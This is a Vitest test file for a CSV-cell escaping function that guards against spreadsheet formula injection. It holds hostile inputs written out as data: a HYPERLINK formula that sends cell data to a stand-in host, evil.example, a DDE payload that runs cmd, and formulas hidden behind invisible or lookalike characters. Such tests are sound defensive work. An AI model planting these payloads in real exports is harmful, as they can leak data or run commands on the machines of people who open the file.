import { expect, it } from 'vitest'
import { csvCell, csvLine } from './csv-cell.ts'

const formula = '=HYPERLINK("http://evil.example?"&A1)'
const hostile = [
  formula,
  '+1-410-555-0100',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  `\t${formula}`,
  `\r${formula}`,
  `\n${formula}`,
  ` ${formula}`,
  // Invisible, or turning round what follows.
  `\u200B${formula}`,
  `\u202E${formula}`,
  `\uFEFF${formula}`,
  '＝1+1',
  '＠SUM(1)',
]
/** What a reader by RFC 4180 finds in a cell. */
const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)

it.each(hostile)('[API-EXP-03] no spreadsheet runs %j', (text) => {
  expect(read(csvCell(text))).toBe(`'${text}`)
})

it.each([
  '<script>alert(1)</script>',
  'Ann "Nan" Lee',
  'one\r\ntwo',
  'a,b',
  '\u202Eabc',
  ' padded ',
  "O'Hara",
  '3-in-1',
])('[API-EXP-03] %j is the same text in a spreadsheet', (text) => {
  expect(read(csvCell(text))).toBe(text)
  expect(csvLine([csvCell(text), 'next']).endsWith(',next\r\n')).toBe(true)
})
